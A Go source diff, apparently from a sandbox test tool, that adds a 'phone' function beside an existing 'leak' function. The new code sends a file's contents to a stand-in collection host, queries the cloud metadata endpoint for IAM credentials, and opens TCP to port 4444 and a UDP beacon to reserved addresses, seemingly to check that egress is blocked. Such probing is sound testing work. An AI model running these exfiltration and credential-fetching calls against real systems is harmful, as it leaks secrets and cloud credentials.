@@ -5,8 +5,10 @@ import (
 	"encoding/hex"
 	"fmt"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
+	"strings"
 	"syscall"
 	"time"
 
@@ -131,4 +133,39 @@ func leak(args []string) {
 	_ = os.WriteFile("/workspace/out.txt", []byte(hex.EncodeToString(secret)), 0o600)
 	fmt.Println(base64.StdEncoding.EncodeToString(secret))
 	_ = exec.Command(home, "hello", string(secret)).Run()
+}
+
+// phone talks to servers that do not exist, by name and by address.
+func phone(args []string) {
+	secret, _ := os.ReadFile(args[0])
+	client := &http.Client{Timeout: 20 * time.Second}
+	show := func(what string, r *http.Response, err error) {
+		if err != nil {
+			fmt.Println(what, err)
+			return
+		}
+		defer r.Body.Close()
+		fmt.Println(what, r.StatusCode)
+	}
+	r, err := client.Post("https://collect.example.com/in?id=7", "text/plain", strings.NewReader(hex.EncodeToString(secret)))
+	show("post", r, err)
+	r, err = client.Get("http://203.0.113.77:8081/by-address")
+	show("get", r, err)
+	r, err = client.Get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+	show("metadata", r, err)
+	c, err := net.DialTimeout("tcp", "198.51.100.7:4444", 5*time.Second)
+	if err != nil {
+		fmt.Println("raw", err)
+		return
+	}
+	_, err = c.Write([]byte("ready\n"))
+	fmt.Println("raw", err, c.Close())
+	u, err := net.Dial("udp", "192.0.2.1:9999")
+	if err != nil {
+		fmt.Println("datagram", err)
+		return
+	}
+	_, err = u.Write([]byte("beacon"))
+	fmt.Println("datagram", err, u.Close())
+	time.Sleep(100 * time.Millisecond) // the datagram has nobody who waits for it
 }
